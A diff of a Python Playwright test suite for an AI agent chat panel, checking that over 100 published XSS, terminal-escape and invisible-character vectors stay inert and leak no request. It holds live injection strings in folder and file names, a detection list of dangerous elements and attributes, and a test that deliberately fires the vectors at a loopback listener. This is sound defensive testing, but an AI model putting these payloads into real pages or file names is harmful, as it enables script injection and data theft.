@@ -1,293 +1,445 @@
-"""Hostile words in every field that reaches the page: nothing of them runs, nothing leaves.
-
-`hostile.json` holds the published kinds of vectors; `{listener}` is an address that must stay
-unasked. The audit looks at what a browser made of them, not at what a sanitiser says it did.
-"""
+"""Hostile words in every field that reaches the page: inert, and no request leaves."""
 
 from __future__ import annotations
 
 import json
+import re
 import sys
 import threading
+import unicodedata
 from collections.abc import Iterator
+from contextlib import contextmanager
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from urllib.parse import urlsplit
 
 import pytest
 from playwright.sync_api import Dialog, Page, Request, expect
 
-from tests.stories.lab import Json, Lab, running_lab, until
+from tests.kernel.jupyter_process import FAKE_AGENT
+from tests.stories.lab import Json, Lab, running_lab, scripted_model, until, with_model
 from tests.stories.panel import Panel, open_lab, open_split, settle
 
-pytestmark = [pytest.mark.story, pytest.mark.timeout(300)]
+pytestmark = pytest.mark.story
 
-VECTORS: list[Json] = json.loads(Path(__file__).with_name("hostile.json").read_text())
-FAKE_AGENT = Path(__file__).parents[1] / "fakes" / "fake_agent.py"
+# By kind; {origin} and {host} are where the listener is. The kinds are those that DOMPurify, OWASP
+# and the writers on terminal escapes and on trojan source have published.
+CORPUS: dict[str, list[str]] = json.loads(Path(__file__).with_name("hostile.json").read_text())
+FOLDER = "<img src=x onerror=window.__pwned=1>"
+EVERYTHING = "say it all"
+ENDING = "That was all of it."
+PIXEL = bytes.fromhex(
+    "47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b"
+)
 
-# What of the panel's elements could run, load or lead somewhere else.
-AUDIT = """() => {
+# What our own elements are made of; a hostile word that became an element shows here.
+FINDINGS = r"""root => {
   const found = [];
-  const elements = new RegExp('^(script|i?frame|frameset|object|embed|applet|base|link|meta|style|'
-  +
-    'audio|video|source|area|marquee|math|template|portal|fencedframe|dialog|picture|title|' +
-    'foreignobject|animate|set|use|image|feimage|xmp|plaintext|noscript|noembed)$', 'i');
-  const names = ['srcdoc', 'formaction', 'ping', 'background', 'srcset', 'poster', 'xlink:href',
-    'action', 'popover', 'is', 'usemap', 'http-equiv'];
-  const data = /^data:image\\/(png|jpe?g|gif|webp|bmp|avif);base64,[\\w+/=]+$/;
-  for (const element of document.querySelectorAll('.al *')) {
-    const wrong = elements.test(element.tagName) || [...element.attributes].some(({name, value}) =>
-      /^on/i.test(name) || names.includes(name) ||
-      (name === 'href' && !/^(https?|mailto):/.test(value)) ||
-      (name === 'src' && !data.test(value)) ||
-      (name === 'style' && /url|expression|position/i.test(value)) ||
-      (name === 'id' && document.getElementById(value) !== element));
-    if (wrong) {
-      found.push(element.outerHTML.slice(0, 300));
+  const never = 'script,iframe,frame,frameset,object,embed,applet,portal,meta,base,link,style,' +
+    'template,math,use,image,feimage,foreignobject,animate,set,video,audio,source,picture,' +
+    'area,isindex,keygen,marquee,noscript,xmp,plaintext';
+  for (const node of root.querySelectorAll('*')) {
+    const show = why => found.push(`${why}: ${node.outerHTML.slice(0, 200)}`);
+    if (node.matches(never)) show('element');
+    for (const { name, value } of node.attributes) {
+      if (/^on/i.test(name)) show('handler');
+      if (name === 'style' && /url|expression|position|content/i.test(value)) show('style');
+      if (name === 'href' && !/^(?:https?:|mailto:)/.test(value)) show('link');
+      if (name === 'src' && !/^data:image\/(?:png|gif|jpeg|webp);base64,/.test(value)) {
+        show('source');
+      }
+      if (/^(?:srcset|action|formaction|ping|poster|background|data|xlink:href)$/i.test(name)) {
+        show('address');
+      }
     }
   }
   return found;
 }"""
-# Characters that hide or reorder others: as such they may stand in no word to be judged by.
-HIDDEN = """() => [...document.querySelectorAll(
-    '.al-prompt, .al-output, .al-codebox, .al-command, .al-target, .al-title, .al-ask')]
-  .filter(element =>
-  /[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u00ad\\u200b\\u202a-\\u202e\\u2060-\\u2069\\ufeff]/
-    .test(element.textContent)).map(element => element.textContent.slice(0, 200))"""
-OPEN_ALL = """() => {
-  const closed = [...document.querySelectorAll('.al-log button[aria-expanded=false]')];
-  closed.forEach(button => button.click());
-  return closed.length;
+# The answer to a request of our own comes after whatever was asked for before it.
+FENCE = """() => new Promise(done => {
+  const image = new Image();
+  image.onerror = () => requestAnimationFrame(() => requestAnimationFrame(done));
+  image.src = `${location.origin}/no-such-picture?${Math.random()}`;
+})"""
+# Each vector as a page of its own within the page.
+BITE = """vectors => {
+  for (const vector of vectors) {
+    const frame = document.createElement('iframe');
+    frame.srcdoc = vector;
+    document.body.append(frame);
+  }
 }"""
+BITTEN = """() => [...document.querySelectorAll('iframe')].filter(frame => {
+  try {
+    return frame.contentWindow.__pwned === 1;
+  } catch {
+    return true;  // it is a page of somebody else now
+  }
+}).length"""
 
 
 @dataclass
 class Listener:
-    """An address on another port of loopback; `asked` has the paths that came."""
+    """Somebody else's server; it hears what a page should not have told."""
 
-    url: str = ""
-    asked: list[str] = field(default_factory=list)
+    host: str
+    heard: list[tuple[str, str | None]] = field(default_factory=list)  # path, referrer
+
+    @property
+    def origin(self) -> str:
+        return f"http://{self.host}"
+
+    def vectors(self) -> list[str]:
+        return [self.aimed(text) for texts in CORPUS.values() for text in texts]
+
+    def aimed(self, text: str) -> str:
+        return text.replace("{origin}", self.origin).replace("{host}", self.host)
+
+
+@contextmanager
+def listening() -> Iterator[Listener]:
+    class Heard(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            heard.heard.append((self.path, self.headers["Referer"]))
+            self.send_response(200)
+            self.send_header("Content-Type", "image/gif")
+            self.send_header("Content-Length", str(len(PIXEL)))
+            self.end_headers()
+            self.wfile.write(PIXEL)
+
+        do_POST = do_GET  # noqa: N815 - the names are the library's
+
+        def log_message(self, format: str, *args: object) -> None:
+            """Nothing: the test looks for itself."""
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Heard) as server:
+        server.daemon_threads = True
+        heard = Listener(f"127.0.0.1:{server.server_port}")
+        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
+        thread.start()
+        try:
+            yield heard
+        finally:
+            server.shutdown()
+            thread.join()
 
 
 @pytest.fixture(scope="module")
 def listener() -> Iterator[Listener]:
-    listener = Listener()
-
-    class Handler(BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            listener.asked.append(self.path)
-            self.send_error(404)
-
-        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 - the base class names them
-
-        def log_message(self, *_: object) -> None:
-            """pytest shows what is written to stderr."""
-
-    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
-        listener.url = f"http://127.0.0.1:{server.server_address[1]}"
-        thread = threading.Thread(target=server.serve_forever)
-        thread.start()
+    with listening() as listener:
         yield listener
-        server.shutdown()
-        thread.join()
 
 
-@dataclass
-class Watch:
-    """What a page did that it should not."""
-
-    page: Page
-    lab: Lab
-    listener: Listener
-    happened: list[str] = field(default_factory=list)
-
-    def __post_init__(self) -> None:
-        page = self.page
-        page.add_init_script("navigator.clipboard.writeText = () => { window.__pwned = 'copied' }")
-        page.on("dialog", self._asked_a_person)
-        page.on("popup", lambda popup: self.happened.append(f"popup {popup.url}"))
-        page.on("request", self._asked)
-        page.on("pageerror", lambda error: self.happened.append(f"uncaught {error.stack or error}"))
-
-    def _asked_a_person(self, dialog: Dialog) -> None:
-        self.happened.append(f"dialog {dialog.message}")
-        dialog.dismiss()
-
-    def _asked(self, request: Request) -> None:
-        parts = urlsplit(request.url)
-        if parts.scheme not in ("data", "blob") and parts.port != self.lab.port:
-            self.happened.append(f"asked {request.url}")
-
-    def clean(self) -> None:
-        assert self.page.evaluate(AUDIT) == []
-        assert self.page.evaluate(HIDDEN) == []
-        assert self.page.evaluate("() => window.__pwned") is None
-        assert self.page.evaluate("() => document.documentElement.innerText.length > 0")
-        assert "pwned" not in self.page.title()
-        assert self.happened == []
-        assert self.listener.asked == []
-
-
-@pytest.fixture
-def watch(page: Page, telling_lab: Lab, listener: Listener) -> Watch:
-    return Watch(page, telling_lab, listener)
-
-
-def texts(listener: Listener, *kinds: str) -> list[str]:
-    """The vectors of these kinds, or all."""
-    return [
-        vector["text"].replace("{listener}", listener.url)
-        for vector in VECTORS
-        if not kinds or vector["kind"] in kinds
-    ]
-
-
-def one_of_each_kind(listener: Listener) -> list[str]:
-    """Without those of terminals: claude itself refuses such commands."""
-    kinds = {vector["kind"]: vector["text"] for vector in reversed(VECTORS)}
-    del kinds["terminal"]
-    return [text.replace("{listener}", listener.url) for text in kinds.values()]
-
-
-def prompt(lab: Lab, session_id: str, text: str) -> None:
-    body = {"content": [{"type": "text", "text": text}]}
-    lab.call("POST", f"agent-lab/api/sessions/{session_id}/prompt", body)
-
-
-def turns(lab: Lab, session_id: str) -> int:
-    found: int = lab.call("GET", f"agent-lab/api/sessions/{session_id}")["usage"]["turns"]
+@pytest.fixture(scope="module")
+def vectors(listener: Listener) -> list[str]:
+    found = listener.vectors()
+    assert len(found) >= 100
     return found
 
 
-def play(lab: Lab, session_id: str, prompts: list[str]) -> None:
-    """Ask all of them, one turn each."""
-    before = turns(lab, session_id)
-    for number, text in enumerate(prompts, before + 1):
-        prompt(lab, session_id, text)
-        until(lambda wanted=number: turns(lab, session_id) >= wanted)  # type: ignore[misc]
+class Watch:
+    """What a page did that no person asked it for."""
+
+    def __init__(self, page: Page, lab: Lab, listener: Listener) -> None:
+        self._page, self._lab, self._listener = page, lab, listener
+        self._done: list[str] = []
+        listener.heard.clear()
+        page.on("dialog", self._dialog)
+        page.on("download", lambda download: self._done.append(f"download {download.url}"))
+        page.on("popup", lambda popup: self._done.append(f"popup {popup.url}"))
+        page.context.on("request", self._request)
+
+    def _dialog(self, dialog: Dialog) -> None:
+        self._done.append(f"dialog {dialog.message}")
+        dialog.dismiss()
+
+    def _request(self, request: Request) -> None:
+        if not request.url.startswith((self._lab.url, "data:", "blob:")):
+            self._done.append(f"request {request.url}")
+
+    def quiet(self) -> None:
+        """Nothing was run, loaded, opened or left; nothing is there that could."""
+        self._page.evaluate(FENCE)
+        assert self._done == []
+        assert self._listener.heard == []
+        assert self._page.url.startswith(self._lab.url)
+        for frame in self._page.frames:
+            assert frame.evaluate("() => window.__pwned ?? null") is None
+        for region in self._page.get_by_role("region", name="Agent chat").all():
+            assert region.evaluate(FINDINGS) == []
 
 
-def opened(watch: Watch, name: str) -> tuple[Panel, str]:
-    open_lab(watch.page, watch.lab, name)
-    panel = open_split(watch.page)
-    panel.status("Idle")
-    session_id: str = watch.lab.sessions()[0]["id"]
-    return panel, session_id
-
-
-def test_there_are_enough() -> None:
-    assert len({vector["text"] for vector in VECTORS}) >= 100
-
-
-def test_prompts_thoughts_answers_and_tools(watch: Watch, listener: Listener) -> None:
-    panel, session_id = opened(watch, "hostile")
-    vectors = texts(listener)
-    play(watch.lab, session_id, [f"hostile: {text}" for text in vectors])
-    panel.status("Idle")
-    expect(panel.log.locator(".al-prompt")).to_have_count(len(vectors))
-    watch.clean()
-    assert watch.page.evaluate(OPEN_ALL) >= len(vectors)
-    watch.clean()
-
-    watch.page.reload()
-    settle(watch.page)
-    expect(panel.log.locator(".al-prompt").last).to_be_visible()
-    watch.page.evaluate(OPEN_ALL)
-    watch.clean()
-
-
-def test_a_picture_from_elsewhere_is_loaded_on_a_click_only(
-    watch: Watch, listener: Listener
-) -> None:
-    panel, session_id = opened(watch, "picture")
-    play(watch.lab, session_id, [f"![chart]({listener.url}/chart.png?secret=1)"])
-    blocked = panel.log.get_by_text(f"Remote image blocked: {urlsplit(listener.url).netloc}")
-    expect(blocked).to_be_visible()
-    watch.clean()
-    panel.button("Load").click()
-    until(lambda: listener.asked)
-    assert listener.asked == ["/chart.png?secret=1"]
-    listener.asked.clear()
-
-
-def test_permissions_and_questions(watch: Watch, listener: Listener) -> None:
-    panel, session_id = opened(watch, "asked")
-    for text in one_of_each_kind(listener):
-        for verb in ("run", "ask"):
-            prompt(watch.lab, session_id, f"{verb}: {text}")
-            expect(panel.log.locator(".al-ask")).to_be_visible()
-            watch.clean()
-            watch.lab.call("POST", f"agent-lab/api/sessions/{session_id}/cancel")
-            expect(panel.log.locator(".al-ask")).to_be_hidden()
-            panel.status("Idle")
-    watch.page.evaluate(OPEN_ALL)
-    watch.clean()
-    assert not (watch.lab.root / "ran").exists()
-
-
-def test_titles(watch: Watch, listener: Listener) -> None:
-    _, session_id = opened(watch, "titles")
-    route = f"agent-lab/api/sessions/{session_id}"
-    for text in texts(listener):
-        title = watch.lab.call("PATCH", route, {"title": f"{text} end"[-200:]})["title"]
-        expect(watch.page.locator(".al-title")).to_contain_text(title[-3:])
-    watch.clean()
-    watch.lab.call("PATCH", route, {"title": "safe \u202egpj.exe"})
-    expect(watch.page.get_by_role("tab", name="safe gpj.exe")).to_be_visible()
-
-
-def test_files_and_what_is_in_them(watch: Watch, listener: Listener) -> None:
-    """Names of a folder and of files, and the words in a file as a tool's output."""
-    root = watch.lab.root
-    folder = root / "<img src=x onerror=window.__pwned=1>"
-    folder.mkdir()
-    named = '"><svg onload=window.__pwned=1>.txt'
-    (root / named).write_text("a name")
-    (root / "all.txt").write_text("\n".join(texts(listener)), "utf-8")
-
-    panel, session_id = opened(watch, "files")
-    play(watch.lab, session_id, ["read: all.txt", f"read: {named}"])
-    panel.status("Idle")
-    watch.page.evaluate(OPEN_ALL)
-    panel.log.get_by_role("button", name="Show more").first.click()
-    expect(panel.log.locator(".al-output").first).to_contain_text("srcdoc")
-    watch.clean()
-
-    watch.page.evaluate(
-        "cwd => window.jupyterapp.commands.execute('agent-lab:open', {cwd}) && 0", folder.name
+def shown(text: str) -> str:
+    """How characters that nobody can see are shown where words count."""
+    return "".join(
+        f"U+{ord(character):04X}"
+        if character not in "\t\n" and unicodedata.category(character) in ("Cc", "Cf", "Zl", "Zp")
+        else character
+        for character in text
     )
-    other = watch.page.locator(".al-Split:visible")
-    expect(Panel(other).log).to_contain_text(folder.name)
-    expect(other.get_by_role("region", name="Terminal")).to_contain_text(folder.name)
-    watch.clean()
 
 
-@pytest.fixture
-def fake_lab(tmp_path: Path) -> Iterator[Lab]:
-    """With an agent that writes what claude would not: it echoes every character as it came."""
-    home = tmp_path / "claude" / "projects" / "fake"
-    home.mkdir(parents=True)
-    environment = {"CLAUDE_CONFIG_DIR": str(tmp_path / "claude"), "FAKE_AGENT_HOME": str(home)}
-    command = [sys.executable, str(FAKE_AGENT)]
-    with running_lab(tmp_path, environment, claude_command=command) as lab:
+def file_name(number: int, vector: str) -> str:
+    bare = vector.replace("/", "\u2044").replace("\0", "")
+    return f"{number:03} {bare}".encode()[:200].decode(errors="ignore")
+
+
+def toml(value: Json) -> str:
+    """A value as TOML; its strings and JSON's agree but for one character."""
+    if isinstance(value, dict):
+        pairs = ",".join(f"{json.dumps(key)}={toml(each)}" for key, each in value.items())
+        return f"{{{pairs}}}"
+    if isinstance(value, list):
+        return f"[{','.join(map(toml, value))}]"
+    return json.dumps(value, ensure_ascii=False).replace("\x7f", "\\u007f")
+
+
+def scene(match: str, *steps: Json) -> str:
+    lines = ["[[scene]]", f"match = {toml(match)}"]
+    for step in steps:
+        lines.append("[[scene.step]]")
+        lines.extend(f"{name} = {toml(value)}" for name, value in step.items())
+    return "\n".join(lines)
+
+
+def uses(name: str, given: Json) -> Json:
+    """A step that calls one tool."""
+    return {"tool": [{"name": name, "input": given}]}
+
+
+def runnable(vectors: list[str]) -> str:
+    """What claude asks about as it is: it refuses control characters and resolves escapes."""
+    return "\n\n".join(
+        vector for vector in vectors if shown(vector) == vector and "\\u" not in vector
+    )
+
+
+def script(vectors: list[str], place: Path) -> str:
+    everything = "\n\n".join(vectors)
+    steps = [
+        {
+            "thinking": vector,
+            "text": vector,
+            **uses("Read", {"file_path": str(place / file_name(number, vector))}),
+        }
+        for number, vector in enumerate(vectors)
+    ]
+    question = {
+        "question": everything,
+        "header": "x",
+        "multiSelect": False,
+        "options": [
+            {"label": everything, "description": everything},
+            {"label": "Other", "description": everything},
+        ],
+    }
+    end = {"text": ENDING, "on_error": ENDING}
+    # A command with control characters claude refuses by itself, and escapes it resolves.
+    told = "\n\n".join(
+        vector for vector in vectors if shown(vector) == vector and "\\u" not in vector
+    )
+    command = {"command": f": '{told}'", "description": everything}
+    plan = {"file_path": "${plan_file}", "content": everything}
+    return "\n\n".join(
+        (
+            scene(f"^{EVERYTHING}$", *steps, end),
+            scene("^run it$", uses("Bash", command), end),
+            scene("^ask it$", uses("AskUserQuestion", {"questions": [question]}), end),
+            scene("^plan it$", uses("Write", plan), uses("ExitPlanMode", {}), end),
+            scene("(?s)^echo: (.+)$", {"text": "${1}"}),
+            scene("", {"text": "Answer to: ${prompt}"}),
+        )
+    )
+
+
+@pytest.fixture(scope="module")
+def hostile_lab(tmp_path_factory: pytest.TempPathFactory, vectors: list[str]) -> Iterator[Lab]:
+    """The real claude, with a model and a folder that mean harm."""
+    folder = tmp_path_factory.mktemp("hostile")
+    place = folder / "root" / FOLDER
+    place.mkdir(parents=True)
+    for number, vector in enumerate(vectors):
+        (place / file_name(number, vector)).write_text(vector, "utf-8", newline="")
+    file = folder / "hostile.toml"
+    file.write_text(script(vectors, place), "utf-8")
+    with (
+        scripted_model(folder, file) as url,
+        running_lab(folder, with_model(folder, url)) as lab,
+    ):
         yield lab
 
 
-def test_characters_that_claude_would_alter(fake_lab: Lab, page: Page, listener: Listener) -> None:
-    watch = Watch(page, fake_lab, listener)
-    panel, session_id = opened(watch, "fake")
-    vectors = texts(listener, "terminal", "unicode", "mutation")
-    play(fake_lab, session_id, [*vectors, "!surrogates", "!ansi"])
+@pytest.fixture(scope="module")
+def fake_lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
+    """An agent that alters nothing: what it is told comes back as it was."""
+    folder = tmp_path_factory.mktemp("fake")
+    home = folder / "claude" / "projects" / "fake"
+    home.mkdir(parents=True)
+    environment = {"CLAUDE_CONFIG_DIR": str(folder / "claude"), "FAKE_AGENT_HOME": str(home)}
+    command = [sys.executable, str(FAKE_AGENT)]
+    with running_lab(folder, environment, claude_command=command) as lab:
+        yield lab
+
+
+def open_in(page: Page, folder: str) -> Panel:
+    page.evaluate("cwd => window.jupyterapp.commands.execute('agent-lab:open', {cwd}) && 0", folder)
+    panel = Panel(page.locator(".al-Split"))
+    expect(panel.box).to_be_visible()
+    return panel
+
+
+def unfold(panel: Panel) -> None:
+    """Open all that is closed: what is not drawn cannot do harm yet."""
+    closed = panel.log.locator("button[aria-expanded=false]")
+    while closed.count():
+        closed.evaluate_all("buttons => buttons.forEach(button => button.click())")
+        panel.region.page.evaluate("() => new Promise(requestAnimationFrame)")
+
+
+def test_the_corpus_bites_where_nothing_is_done_about_it(
+    page: Page, listener: Listener, vectors: list[str]
+) -> None:
+    """Else the silence of the others would prove nothing."""
+    listener.heard.clear()
+    page.on("dialog", lambda dialog: dialog.dismiss())
+    page.evaluate(BITE, vectors)
+    until(lambda: page.evaluate(BITTEN) > 40 and len(listener.heard) > 30)
+
+
+def test_thoughts_words_tools_and_files(
+    hostile_lab: Lab, page: Page, listener: Listener, vectors: list[str]
+) -> None:
+    watch = Watch(page, hostile_lab, listener)
+    open_lab(page, hostile_lab, "hostile")
+    page.evaluate("() => navigator.clipboard.writeText('mine')")
+    panel = open_in(page, FOLDER)
+    panel.ask(EVERYTHING)
+    panel.says(ENDING)
     panel.status("Idle")
-    expect(panel.log.locator(".al-prompt")).to_have_count(len(vectors) + 2)
-    watch.clean()
-    for name in ("bash", "permission"):
-        prompt(fake_lab, session_id, f"!permission bash 'echo {name}\u202e\u200b\x1b[31m'")
-        expect(panel.log.locator(".al-ask")).to_contain_text("U+202E")
-        watch.clean()
-        fake_lab.call("POST", f"agent-lab/api/sessions/{session_id}/cancel")
-        expect(panel.log.locator(".al-ask")).to_be_hidden()
-        panel.status("Idle")
-    panel.answers("still well")
-    watch.clean()
+    unfold(panel)
+    assert panel.log.get_by_role("group", name="Thinking").count() == len(vectors)
+    cards = panel.log.get_by_role("group", name=re.compile("^Tool call: "))
+    assert cards.count() == len(vectors)
+    outputs = "\n".join(panel.log.locator(".al-output").all_text_contents())
+    for kind in ("script", "image", "nesting", "markdown"):
+        for text in CORPUS[kind]:
+            assert shown(listener.aimed(text)).split("\n")[0] in outputs
+    assert "]52;" not in outputs
+    code = panel.log.locator("pre, code, .al-target, .al-name").all_text_contents()
+    assert [text for text in code if shown(text) != text] == []
+    watch.quiet()
+    assert page.evaluate("() => navigator.clipboard.readText()") == "mine"
+
+    page.reload()
+    settle(page)
+    panel.says(ENDING)
+    unfold(panel)
+    watch.quiet()
+
+
+def test_what_a_person_is_asked(
+    hostile_lab: Lab, page: Page, listener: Listener, vectors: list[str]
+) -> None:
+    watch = Watch(page, hostile_lab, listener)
+    open_lab(page, hostile_lab, "asked")
+    panel = open_in(page, FOLDER)
+    panel.ask("run it")
+    command = panel.log.locator(".al-ask .al-command pre")
+    expect(command).to_be_visible()
+    assert command.text_content() == f": '{runnable(vectors)}'"
+    watch.quiet()
+    panel.choose("Reject")
+    panel.says(ENDING)
+
+    panel.ask("ask it")
+    expect(panel.log.get_by_role("radio").first).to_be_visible()
+    watch.quiet()
+    panel.log.get_by_role("radio").first.check()
+    panel.button("Send answer").click()
+    panel.says(ENDING, 2)
+
+    session = hostile_lab.sessions()[0]["id"]
+    hostile_lab.call("PATCH", f"agent-lab/api/sessions/{session}", {"permission_mode": "plan"})
+    panel.ask("plan it")
+    expect(panel.log.locator(".al-ask .al-say")).to_be_visible()
+    watch.quiet()
+    panel.button("Stop").click()
+    panel.status("Idle")
+    unfold(panel)
+    watch.quiet()
+
+
+def test_prompts_queue_titles_and_context(
+    fake_lab: Lab, page: Page, listener: Listener, vectors: list[str]
+) -> None:
+    watch = Watch(page, fake_lab, listener)
+    open_lab(page, fake_lab, "told")
+    panel = open_split(page)
+    panel.ask("!permission")
+    expect(panel.button("Allow once")).to_be_visible()
+    session = f"agent-lab/api/sessions/{fake_lab.sessions()[0]['id']}"
+    for vector in vectors:
+        context = {"type": "file", "label": vector, "path": vector, "text": vector}
+        error = {"type": "error", "label": vector, "traceback": vector, "source": vector}
+        fake_lab.call(
+            "POST",
+            f"{session}/prompt",
+            {"content": [{"type": "text", "text": vector}], "context": [context, error]},
+        )
+    expect(panel.queue.get_by_role("listitem")).to_have_count(len(vectors))
+    watch.quiet()
+
+    panel.choose("Allow once")
+    expect(panel.queue).to_be_hidden()
+    panel.status("Idle")
+    unfold(panel)
+    prompts = panel.log.locator(".al-prompt > p").all_text_contents()
+    assert prompts[1:] == [shown(vector) for vector in vectors]
+    expect(panel.log.locator(".al-sent-all")).to_have_count(len(vectors))
+    watch.quiet()
+
+    for fault in ("surrogates", "ansi"):
+        panel.ask(f"!{fault}")
+    panel.status("Idle")
+    for vector in vectors:
+        title = " ".join(vector.split())[:200]
+        fake_lab.call("PATCH", session, {"title": title})
+        page.wait_for_function(
+            "title => document.querySelector('.al-title')?.textContent === title", arg=shown(title)
+        )
+    watch.quiet()
+    panel.a_b_c()
+
+
+def test_words_in_angle_brackets_stay_words(
+    hostile_lab: Lab, page: Page, listener: Listener
+) -> None:
+    watch = Watch(page, hostile_lab, listener)
+    open_lab(page, hostile_lab, "words")
+    panel = open_split(page)
+    panel.ask("echo: A Vec<T> or List<String> with <your-key>, <b>bold</b>, <script>x</script>.")
+    panel.says("A Vec<T> or List<String> with <your-key>, bold, <script>x</script>.")
+    watch.quiet()
+
+
+def test_a_remote_image_waits_for_a_person(
+    hostile_lab: Lab, page: Page, listener: Listener
+) -> None:
+    watch = Watch(page, hostile_lab, listener)
+    open_lab(page, hostile_lab, "image")
+    panel = open_split(page)
+    panel.ask(f"echo: ![plot]({listener.origin}/plot.png?secret=1) is a plot")
+    blocked = panel.log.get_by_text(f"Remote image blocked: {listener.host}")
+    expect(blocked).to_be_visible()
+    panel.status("Idle")
+    watch.quiet()
+    page.reload()
+    settle(page)
+    expect(blocked).to_be_visible()
+    watch.quiet()
+
+    panel.button("Load").click()
+    picture = panel.log.get_by_role("img", name="plot")
+    expect(picture).to_be_visible()
+    page.wait_for_function("() => document.querySelector('.al-picture')?.naturalWidth === 1")
+    assert listener.heard == [("/plot.png?secret=1", None)]
